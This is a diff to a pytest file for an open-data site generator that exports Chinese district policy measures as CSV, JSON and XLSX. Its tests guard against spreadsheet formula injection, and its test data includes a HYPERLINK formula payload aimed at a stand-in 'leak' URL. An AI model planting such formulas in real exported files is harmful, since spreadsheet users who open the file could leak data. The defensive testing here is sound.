@@ -8,8 +8,10 @@ import csv
 import io
 import json
 import re
+import shutil
 import subprocess
 import sys
+import zipfile
 from collections import defaultdict
 from decimal import Decimal
 from pathlib import Path
@@ -24,6 +26,7 @@ from generator.pages.downloads import files
 
 ROOT = Path(__file__).resolve().parent.parent
 DATA = ROOT / "site_data"
+FIXTURE = ROOT / "tests" / "fixtures" / "corpus"
 V1 = "data/v1"
 GAP = "…"
 
@@ -97,7 +100,23 @@ def read_csv(data: bytes) -> list[dict[str, str]]:
 
 
 def read_json(data: bytes) -> list[dict]:
-    return json.loads(data.decode("utf-8"))
+    """The rows of a JSON download ({"columns": [...], "data": [[...], ...]}) as dicts."""
+    table = json.loads(data.decode("utf-8"))
+    assert list(table) == ["columns", "data"]
+    return [dict(zip(table["columns"], row, strict=True)) for row in table["data"]]
+
+
+def as_csv_text(value) -> str:
+    """What a CSV field must hold for a JSON value: text a spreadsheet would read as a formula
+    (starting with = + - @, tab or carriage return, OWASP, and more than that one character)
+    behind a single quote."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value).lower()
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") and len(value) > 1:
+        return "'" + value
+    return str(value)
 
 
 def same_number(text: str, value) -> bool:
@@ -177,6 +196,66 @@ def test_one_unit_row_per_measure_unit_and_role(downloads, truth):
         assert rows.get(key, []) == truth.units(m), key
 
 
+MAIN_TEXT = ("goal", "measure", "safeguard")
+
+
+def test_rows_name_the_measures_they_implement_and_the_rows_implementing_them(downloads, truth):
+    implements = {}
+    implemented_by: dict[str, list[str]] = defaultdict(list)
+    for key, (doc, m) in truth.measures.items():  # printed order, as in the YAML
+        targets = [f"{doc['id']}/{mid}" for mid in m.get("implements", [])]
+        implements[key] = " ".join(targets)
+        for t in targets:
+            implemented_by[t].append(key)
+    assert any(implements.values()), "the corpus links table rows to main-text measures"
+    for r in read_csv(downloads[f"{V1}/measures.csv"]):
+        assert r["implements"] == implements[r["id"]], r["id"]
+        assert r["implemented_by"] == " ".join(implemented_by.get(r["id"], [])), r["id"]
+    for name in ("targets", "projects"):
+        rows = read_csv(downloads[f"{V1}/{name}.csv"])
+        assert rows and all(r["implements"] == implements[r["measure"]] for r in rows)
+    # counting distinct measures as the site does: rows that implement nothing
+    site = sum(1 for r in read_csv(downloads[f"{V1}/measures.csv"]) if not r["implements"])
+    assert site == sum(1 for v in implements.values() if not v)
+
+
+def test_restated_targets_share_the_id_of_their_first_statement(downloads, truth):
+    """Same district, metric, value (or 市级下达), unit and target year in two items: one target,
+    counted once. Equal targets of one item stay apart; the n-th joins the n-th of another item."""
+    groups: dict[tuple, list[str]] = defaultdict(list)
+    kind_of = {}
+    for key, (doc, m) in truth.measures.items():
+        in_item: dict[tuple, int] = defaultdict(int)
+        for n, t in enumerate(m.get("targets", []), start=1):
+            same = (doc["district"], t["metric"], null(t.get("value")), t.get("set_by_municipality", "false"),
+                    t.get("unit", ""), null(t.get("target_year")))
+            groups[same + (in_item[same],)].append(f"{key}/t{n}")
+            in_item[same] += 1
+            kind_of[f"{key}/t{n}"] = m["kind"]
+    rows = {r["id"]: r for r in read_csv(downloads[f"{V1}/targets.csv"])}
+    assert set(rows) == set(kind_of)
+    assert any(len(ids) > 1 for ids in groups.values()), "the corpus restates some targets"
+    for ids in groups.values():
+        first = {rows[i]["distinct_target"] for i in ids}
+        assert len(first) == 1 and first <= set(ids), ids
+        if any(kind_of[i] in MAIN_TEXT for i in ids):
+            assert kind_of[first.pop()] in MAIN_TEXT, ids
+    assert len({r["distinct_target"] for r in rows.values()}) == len(groups)
+
+
+def test_every_table_carries_the_same_provenance_fields(downloads):
+    from generator.opendata.tables import PROVENANCE
+
+    first = TABLES[0].row.model_fields
+    for table in TABLES:
+        fields = table.row.model_fields
+        for name in PROVENANCE:
+            same = (fields[name].annotation, fields[name].title, fields[name].description)
+            assert same == (first[name].annotation, first[name].title, first[name].description), (table.name, name)
+        header = read_csv(downloads[f"{V1}/{table.name}.csv"])[0]
+        assert set(PROVENANCE) <= set(header)
+
+
 def test_source_links_point_at_the_paragraph_where_the_clause_starts(downloads, truth):
     for name, clause_field in (("measures", "text"), ("targets", "clause")):
         for r in read_csv(downloads[f"{V1}/{name}.csv"]):
@@ -219,10 +298,12 @@ def test_each_page_download_holds_exactly_that_pages_rows(downloads, truth):
     assert checked > 50
 
 
-def test_csv_json_and_xlsx_carry_the_same_rows(downloads):
-    workbooks = [p for p in downloads if p.endswith(".xlsx")]
-    assert f"{V1}/all.xlsx" in workbooks and any(p.startswith(f"{V1}/districts/") for p in workbooks)
-    for path in [f"{V1}/all.xlsx", f"{V1}/districts/tongliang.xlsx"]:
+@pytest.mark.slow
+def test_csv_json_and_xlsx_carry_the_same_rows_for_every_page(downloads, truth):
+    workbooks = sorted(p for p in downloads if p.endswith(".xlsx"))
+    expected = [f"{V1}/all.xlsx"] + [f"{V1}/{kind}/{slug}.xlsx" for kind, slugs in page_scopes(truth) for slug in slugs]
+    assert workbooks == sorted(expected)
+    for path in workbooks:
         wb = openpyxl.load_workbook(io.BytesIO(downloads[path]), read_only=True)
         base = path.removesuffix(".xlsx").removesuffix("all").rstrip("/")
         for table in TABLES:
@@ -243,7 +324,7 @@ def test_csv_json_and_xlsx_carry_the_same_rows(downloads):
                     elif isinstance(cell, (int, float)):
                         assert same_number(text, cell) and same_number(text, j[name])
                     else:
-                        assert text == cell == j[name]
+                        assert text == as_csv_text(cell) and cell == j[name]
 
 
 def test_workbooks_have_frozen_bilingual_headers_widths_and_no_formulas(downloads):
@@ -304,10 +385,11 @@ def test_pages_link_their_downloads_with_the_counts_the_files_hold(docs, downloa
                 rows = read_csv(downloads[f"{V1}/{kind}/{slug}-{table.name}.csv"])
                 assert f"{table.title} {len(rows):,} 行" in line, (kind, slug, table.name)
                 assert f"../data/v1/{kind}/{slug}-{table.name}.csv" in line
+                assert f"../data/v1/{kind}/{slug}-{table.name}.json" in line
+            assert f"../data/v1/{kind}/{slug}.xlsx" in line
             if kind == "districts":
                 total = int(re.search(r"收录的条目共 ([\d,]+) 条", text).group(1).replace(",", ""))
                 assert total == len(read_csv(downloads[f"{V1}/{kind}/{slug}-measures.csv"]))
-                assert f"../data/v1/districts/{slug}.xlsx" in line
     for path in downloads:
         assert (tmp_path / path).is_file()
 
@@ -324,16 +406,25 @@ def test_every_json_file_validates_against_its_published_schema(downloads):
     for path, data in downloads.items():
         match = re.fullmatch(rf"{V1}/(?:.+[/-])?(measures|targets|projects|units)\.json", path)
         if match:
-            validators[match.group(1)].validate(read_json(data))
+            validators[match.group(1)].validate(json.loads(data))
             checked += 1
-    assert checked >= 4 * 5
+    assert checked == 4 * len([p for p in downloads if p.endswith(".xlsx")])  # four tables for each page and the site
     # and the schema is strict enough to catch a wrong row
-    bad = read_json(downloads[f"{V1}/targets.json"])
-    bad[0] = dict(bad[0], value="16%")
+    targets = json.loads(downloads[f"{V1}/targets.json"])
+    bad = copy.deepcopy(targets)
+    bad["data"][0][targets["columns"].index("value")] = "16%"
     with pytest.raises(jsonschema.ValidationError):
         validators["targets"].validate(bad)
-    extra = copy.deepcopy(read_json(downloads[f"{V1}/units.json"]))
-    extra[0]["surprise"] = 1
+    short = copy.deepcopy(targets)
+    short["data"][0].pop()
+    with pytest.raises(jsonschema.ValidationError):
+        validators["targets"].validate(short)
+    renamed = copy.deepcopy(targets)
+    renamed["columns"][0] = "target_id"
+    with pytest.raises(jsonschema.ValidationError):
+        validators["targets"].validate(renamed)
+    extra = copy.deepcopy(json.loads(downloads[f"{V1}/units.json"]))
+    extra["data"][0].append(1)
     with pytest.raises(jsonschema.ValidationError):
         validators["units"].validate(extra)
 
@@ -385,3 +476,71 @@ def test_two_runs_give_identical_bytes(downloads, real_index):
 def test_legacy_addresses_serve_the_v1_files(downloads):
     assert downloads["data/measures.json"] == downloads[f"{V1}/measures.json"]
     assert downloads["data/targets.json"] == downloads[f"{V1}/targets.json"]
+
+
+# ------------------------------------------------------------------ formula injection
+
+# Editors' notes (free text, not checked against a source) that a spreadsheet would run as formulas.
+HOSTILE = {
+    "measure": '=HYPERLINK("https://example.invalid/?leak","点此")',
+    "target": "+3+4",
+    "support": "-5+6",
+    "at": "@SUM(1;1)",
+    "tab": "\t=7+8",
+}
+
+
+def hostile_corpus(out: Path) -> Path:
+    """The fixture corpus with notes that start like formulas (=, +, -, @, tab)."""
+    shutil.copytree(FIXTURE, out)
+    doc = out / "documents" / "jiangjin" / "jiangjin-test.yaml"
+    text = doc.read_text(encoding="utf-8")
+    for old, new in (
+        ("    title: 协同开发油气资源。\n", f"    title: 协同开发油气资源。\n    note: '{HOSTILE['measure']}'\n"),
+        ("        target_year: 2025\n", f"        target_year: 2025\n        note: '{HOSTILE['target']}'\n"),
+        ("    title: 建设充电设施。\n", f"    title: 建设充电设施。\n    note: '{HOSTILE['support']}'\n"),
+        ("    title: 行动目标。\n", f"    title: 行动目标。\n    note: '{HOSTILE['at']}'\n"),
+    ):
+        assert old in text
+        text = text.replace(old, new, 1)
+    doc.write_text(text, encoding="utf-8")
+    other = out / "documents" / "qianjiang" / "qianjiang-test.yaml"
+    text = other.read_text(encoding="utf-8")
+    old = "    text: 推进天然气综合利用。\n"
+    assert old in text
+    other.write_text(text.replace(old, old + '    note: "\\t=7+8"\n', 1), encoding="utf-8")
+    return out
+
+
+@pytest.fixture(scope="module")
+def hostile_downloads(tmp_path_factory) -> dict[str, bytes]:
+    from generator.pipeline import index_data
+
+    return files(index_data(hostile_corpus(tmp_path_factory.mktemp("hostile") / "corpus")))
+
+
+def test_text_that_looks_like_a_formula_is_quoted_in_csv_and_kept_as_text_elsewhere(hostile_downloads):
+    notes = [r["note"] for r in read_csv(hostile_downloads[f"{V1}/measures.csv"]) if r["note"]]
+    notes += [r["note"] for r in read_csv(hostile_downloads[f"{V1}/targets.csv"]) if r["note"]]
+    assert sorted(notes) == sorted("'" + v for v in HOSTILE.values())
+    json_notes = [r["note"] for name in ("measures", "targets")
+                  for r in read_json(hostile_downloads[f"{V1}/{name}.json"]) if r["note"]]
+    assert sorted(json_notes) == sorted(HOSTILE.values())
+    for path in (f"{V1}/all.xlsx", f"{V1}/districts/jiangjin.xlsx", f"{V1}/themes/energy.xlsx"):
+        wb = openpyxl.load_workbook(io.BytesIO(hostile_downloads[path]))
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+        assert not any(c.data_type == "f" for c in cells), path
+        texts = {c.value for c in cells if c.data_type == "s"}
+        assert set(HOSTILE.values()) - {HOSTILE["tab"]} <= texts, path  # the tab note is qianjiang's
+        with zipfile.ZipFile(io.BytesIO(hostile_downloads[path])) as z:
+            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()), path
+
+
+def test_only_text_a_spreadsheet_could_run_is_quoted():
+    from generator.opendata.formats import csv_text
+
+    for text in ("=1+1", "+86 23", "-5", "@A1", "\t=1", "\r=1", "-—"):
+        assert csv_text(text) == "'" + text
+    for text in ("=", "-", "+", "@", "≥", "’=1", " =1", "江津区", ""):
+        assert csv_text(text) == text
+    assert csv_text(-5) == "-5" and csv_text(-5.5) == "-5.5"  # numbers are numbers, never quoted
